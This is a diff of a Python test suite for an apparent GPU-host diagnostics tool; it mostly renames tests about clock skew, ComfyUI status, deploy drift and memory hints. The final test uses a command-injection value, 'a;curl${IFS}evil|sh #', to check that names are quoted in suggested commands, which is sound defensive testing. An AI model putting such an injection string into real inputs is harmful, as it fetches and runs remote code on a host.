@@ -42,13 +42,13 @@ def found(case: Case) -> dict[str, str]:
     return {each.check: each.what for each in doctor.judge(case)}
 
 
-def test_all_is_well() -> None:
+def test_healthy_host_has_no_problems() -> None:
     assert found(seen()) == {}
     assert status.judge(spark(), settled(), WELL, made(settled())).problems == ()
 
 
 @pytest.mark.parametrize(("off", "what"), [(-300.0, "5 min 00 s behind"), (90.0, "1 min 30 s ahead of")])
-def test_a_clock_that_is_wrong(off: float, what: str) -> None:
+def test_wrong_clock_is_reported(off: float, what: str) -> None:
     case = seen(live=replace(WELL, time=NOW + off))
     assert found(case) == {"clock": f"its clock is {what} this machine's"}
 
@@ -74,13 +74,13 @@ def test_a_gpu_of_another_kind_than_the_kernels_are_for() -> None:
         (replace(WELL, comfyui=ComfyUI("silent", "timed out")), "does not answer: timed out"),
     ],
 )
-def test_what_status_says_of_a_comfyui_that_is_not_there(live: Live, what: str) -> None:
+def test_status_of_a_stopped_comfyui(live: Live, what: str) -> None:
     (problem,) = status.judge(spark(), settled(), live, made(settled())).problems
     assert what in problem.what
     assert problem.remedy == "inv logs --host spark"
 
 
-def test_a_gpu_that_is_shared_on_purpose_is_none_to_warn_of() -> None:
+def test_intended_gpu_sharing_causes_no_warning() -> None:
     gpu = msgspec.convert(
         {**sample("h200")["gpus"][0], "processes": [{**PROCESS, "bytes": None, "kind": "compute"}]}, GpuState
     )
@@ -91,7 +91,7 @@ def test_a_gpu_that_is_shared_on_purpose_is_none_to_warn_of() -> None:
     assert "gpu-shared" not in found(shared) | found(through_mps)
 
 
-def test_drift_is_what_a_deploy_would_change() -> None:
+def test_drift_is_the_plan_of_a_deploy() -> None:
     altered = replace(settled(), altered=(settled().current,))
     judged = status.judge(spark(), altered, WELL, made(altered))
     assert judged.drift
@@ -99,7 +99,7 @@ def test_drift_is_what_a_deploy_would_change() -> None:
     assert any(problem.what.startswith(f"a deploy would {judged.drift[0]}") for problem in judged.problems)
 
 
-def test_a_failed_last_run_and_one_under_way() -> None:
+def test_failed_and_running_changes_are_reported() -> None:
     last = Ended(action="deploy", at="now", result="reverted", error="no picture")
     busy = Busy(action="deploy", who="anna", alive=True, run="1", since="now")
     facts = replace(settled(), last=last, busy=busy)
@@ -133,7 +133,7 @@ def test_the_tables_of_status_are_100_columns_wide_at_most() -> None:
     assert machines.splitlines()[2].endswith("100.0 GB  9000.0 GB")
 
 
-def test_the_page_is_todays() -> None:
+def test_troubleshooting_page_is_up_to_date() -> None:
     """To update it: python -m ops.doctor."""
     assert doctor.PAGE.read_text() == doctor.page()
     assert len({check.name for check in CHECKS}) == len(CHECKS)
@@ -187,7 +187,7 @@ def test_every_problem_is_followed_by_its_fix() -> None:
     assert (doctor.code(found), doctor.code(found[:1])) == (1, 0)
 
 
-def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
+def test_fragmented_memory_suggests_a_mode() -> None:
     line = "torch.OutOfMemoryError: CUDA out of memory. 5.10 GiB is reserved by PyTorch but unallocated."
     (told,) = doctor.judge(seen(probe=replace(PROBE, log=((NOW, line),))))
     assert told.check == "out-of-memory"
@@ -195,7 +195,7 @@ def test_memory_in_pieces_names_the_mode_that_may_help() -> None:
     assert '5.10 GiB is fragmented: modes = ["native-allocator"]' in told.remedy
 
 
-def test_what_others_name_is_quoted_in_commands() -> None:
+def test_foreign_names_are_quoted_in_commands() -> None:
     name = "a;curl${IFS}evil|sh #"
     case = seen(replace(settled(), failed_nodes={name: "x"}))
     (node,) = [each for each in doctor.judge(case) if each.check == "nodes"]
